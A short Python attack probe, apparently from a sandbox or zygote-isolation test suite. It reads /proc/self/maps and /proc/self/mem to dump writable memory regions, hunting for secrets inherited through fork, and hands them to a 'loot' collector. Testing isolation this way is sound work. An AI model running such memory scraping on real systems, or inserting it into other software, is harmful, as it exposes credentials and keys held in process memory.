# /// attack
# title = "Searches its own memory, which was forked from the zygote's, for leftover secrets"
# ///
from loot import loot

BLOCK = 1 << 20


def attack(*arguments, **keywords):
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, end = (int(edge, 16) for edge in span.split("-"))
            if rights.startswith("rw") and end - start <= 16 * BLOCK and "[v" not in line:
                memory.seek(start)
                found.append(memory.read(end - start))
    return loot(b" ".join(found).replace(b"can" + b"ary-x", b""))
